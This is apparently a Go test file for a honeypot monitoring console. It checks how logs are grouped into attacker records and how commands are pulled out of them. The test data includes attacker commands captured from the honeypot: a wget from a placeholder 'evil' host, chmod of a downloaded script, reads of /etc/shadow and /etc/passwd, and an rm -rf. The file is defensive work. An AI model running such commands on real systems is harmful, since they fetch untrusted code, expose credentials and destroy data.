package correlation

import (
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"vpuppets-console/models"
)

var base = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func entry(offset time.Duration, level models.Level, process, sourceIP, msg string) models.LogEntry {
	return models.LogEntry{
		ID:        fmt.Sprintf("log-%d", offset),
		Timestamp: base.Add(offset),
		ActorID:   "actor-1",
		Level:     level,
		Process:   process,
		SourceIP:  sourceIP,
		Message:   msg,
	}
}

func TestAggregateScenario(t *testing.T) {
	logs := []models.LogEntry{
		entry(1*time.Second, models.LevelInfo, "agent", "", "heartbeat ok"),
		entry(2*time.Second, models.LevelWarning, "kernel", "1.2.3.4", "IN=eth0 SRC=1.2.3.4 DPT=445"),
		entry(3*time.Second, models.LevelCritical, "sentinel", "", "from 5.6.7.8:9000 to 10.0.0.1:22"),
	}

	res := Aggregate(logs, 0, "203.0.113.1", "")

	assert.ElementsMatch(t, []models.ThreatRecord{
		{IP: "1.2.3.4", Protocol: "kernel", Count: 1, Port: "445"},
		{IP: "5.6.7.8", Protocol: "sentinel", Count: 1, Port: "22"},
	}, res.Attackers)
	assert.Empty(t, res.Payloads)
}

func TestAggregateCountsAndStickyPort(t *testing.T) {
	logs := []models.LogEntry{
		entry(1*time.Second, models.LevelWarning, "sshd", "9.9.9.9", "from 9.9.9.9:40000 to 10.0.0.1:2222"),
		entry(2*time.Second, models.LevelCritical, "cowrie", "9.9.9.9", "login attempt root/root"),
		entry(3*time.Second, models.LevelWarning, "kernel", "9.9.9.9", "DPT=23"),
		entry(4*time.Second, models.LevelInfo, "kernel", "9.9.9.9", "DPT=80"),
		entry(5*time.Second, models.LevelError, "agent", "9.9.9.9", "DPT=81"),
	}

	res := Aggregate(logs, 0, "", "")
	require.Len(t, res.Attackers, 1)

	rec := res.Attackers[0]
	assert.Equal(t, 3, rec.Count)
	// newest alert is the DPT=23 kernel line
	assert.Equal(t, "kernel", rec.Protocol)
	assert.Equal(t, "23", rec.Port)
}

func TestAggregatePortBackfill(t *testing.T) {
	logs := []models.LogEntry{
		entry(1*time.Second, models.LevelWarning, "sshd", "9.9.9.9", "DPT=22"),
		entry(2*time.Second, models.LevelCritical, "cowrie", "9.9.9.9", "session opened"),
	}

	res := Aggregate(logs, 0, "", "")
	require.Len(t, res.Attackers, 1)
	assert.Equal(t, "cowrie", res.Attackers[0].Protocol)
	assert.Equal(t, "22", res.Attackers[0].Port)
	assert.Equal(t, 2, res.Attackers[0].Count)
}

func TestAggregateIgnoresProducerOrder(t *testing.T) {
	logs := []models.LogEntry{
		entry(1*time.Second, models.LevelWarning, "a", "1.1.1.1", "cmd: uname -a"),
		entry(2*time.Second, models.LevelWarning, "b", "1.1.1.1", "cmd: id"),
		entry(3*time.Second, models.LevelWarning, "c", "2.2.2.2", "DPT=80"),
	}
	reversed := []models.LogEntry{logs[2], logs[1], logs[0]}

	a := Aggregate(logs, 0, "", "")
	b := Aggregate(reversed, 0, "", "")
	assert.Equal(t, a, b)
	assert.Equal(t, []string{"id", "uname -a"}, a.Payloads)
}

func TestAggregateIdempotent(t *testing.T) {
	logs := []models.LogEntry{
		entry(1*time.Second, models.LevelCritical, "s", "", "detected from 4.4.4.4:5000 -> :22"),
		entry(2*time.Second, models.LevelWarning, "s", "3.3.3.3", "Executing wget http://x/y.sh"),
		entry(3*time.Second, models.LevelCritical, "s", "", "from 4.4.4.4:5001 to 10.0.0.1:23"),
	}
	snapshot := append([]models.LogEntry(nil), logs...)

	first := Aggregate(logs, 0, "", "")
	second := Aggregate(logs, 0, "", "")
	assert.ElementsMatch(t, first.Attackers, second.Attackers)
	assert.Equal(t, first.Payloads, second.Payloads)
	assert.Equal(t, snapshot, logs, "input must not be reordered")
}

func TestAggregateWatermark(t *testing.T) {
	logs := []models.LogEntry{
		entry(1*time.Second, models.LevelCritical, "s", "1.1.1.1", "DPT=22"),
		entry(2*time.Second, models.LevelCritical, "s", "2.2.2.2", "DPT=22"),
		entry(3*time.Second, models.LevelCritical, "s", "3.3.3.3", "DPT=22"),
		entry(4*time.Second, models.LevelCritical, "s", "3.3.3.3", "cmd: cat /etc/passwd"),
	}

	t.Run("boundary entry is excluded", func(t *testing.T) {
		res := Aggregate(logs, base.Add(2*time.Second).UnixMilli(), "", "")
		require.Len(t, res.Attackers, 1)
		assert.Equal(t, "3.3.3.3", res.Attackers[0].IP)
		assert.Equal(t, 2, res.Attackers[0].Count)
	})

	t.Run("monotone in dismissal time", func(t *testing.T) {
		prev := len(logs) + 1
		for ms := int64(0); ms <= base.Add(5*time.Second).UnixMilli(); ms += 250 {
			if ms > 0 && ms < base.UnixMilli() {
				ms = base.UnixMilli()
			}
			n := len(Aggregate(logs, ms, "", "").Attackers)
			assert.LessOrEqual(t, n, prev)
			prev = n
		}
		assert.Zero(t, prev)
	})
}

func TestAggregatePayloads(t *testing.T) {
	var logs []models.LogEntry
	cmds := []string{"ls", "id", "ls", "whoami", "uname -a", "cat /etc/shadow", "rm -rf /tmp/x"}
	for i, c := range cmds {
		logs = append(logs, entry(time.Duration(len(cmds)-i)*time.Second, models.LevelInfo, "cowrie", "", "cmd: "+c))
	}

	res := Aggregate(logs, 0, "", "")
	assert.Equal(t, []string{"ls", "id", "whoami", "uname -a", "cat /etc/shadow"}, res.Payloads)
	assert.Empty(t, res.Attackers)
}

func TestInterceptPayload(t *testing.T) {
	tests := []struct {
		msg  string
		want string
		ok   bool
	}{
		{"cmd: wget http://evil/x.sh", "wget http://evil/x.sh", true},
		{"session 7 cmd:busybox", "busybox", true},
		{"Executing: chmod +x x.sh", "chmod +x x.sh", true},
		{"Executing ./x.sh", "./x.sh", true},
		{"read 42 bytes from stdin", "read 42 bytes from stdin", true},
		{"cmd:   ", "", false},
		{"login failed", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.msg, func(t *testing.T) {
			got, ok := InterceptPayload(tt.msg)
			assert.Equal(t, tt.ok, ok)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestNextStatus(t *testing.T) {
	hit := Result{Attackers: []models.ThreatRecord{{IP: "1.1.1.1", Count: 1}}}
	empty := Result{}

	assert.Equal(t, models.StatusCompromised, NextStatus(models.StatusOnline, hit))
	assert.Equal(t, models.StatusOnline, NextStatus(models.StatusOnline, empty))
	assert.Equal(t, models.StatusOnline, NextStatus(models.StatusCompromised, empty))
	assert.Equal(t, models.StatusCompromised, NextStatus(models.StatusCompromised, hit))
	assert.Equal(t, models.StatusOffline, NextStatus(models.StatusOffline, hit))
}
